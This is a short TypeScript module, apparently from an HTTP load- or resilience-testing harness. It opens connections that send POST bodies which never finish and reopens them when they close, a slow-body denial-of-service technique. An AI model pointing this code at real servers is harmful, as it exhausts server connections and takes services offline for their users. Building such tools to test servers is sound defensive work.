import { type Flood, type FloodOptions, openFlood } from "./openFlood.ts";

export interface SlowBodies extends Omit<FloodOptions, "bytes"> {
  path: string;
  type?: string;
  /** `Content-Length` of each body. All but the last hundred bytes are sent at once. */
  size: number;
}

/** Opens connections whose bodies never end. Reopens closed ones. */
export function openSlowBodies({
  path,
  type = "application/json",
  size,
  ...flood
}: SlowBodies): Promise<Flood> {
  const head = `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: ${type}\r\nContent-Length: ${size}\r\n\r\n`;
  return openFlood({ ...flood, bytes: Buffer.from(head + " ".repeat(Math.max(0, size - 100))) });
}
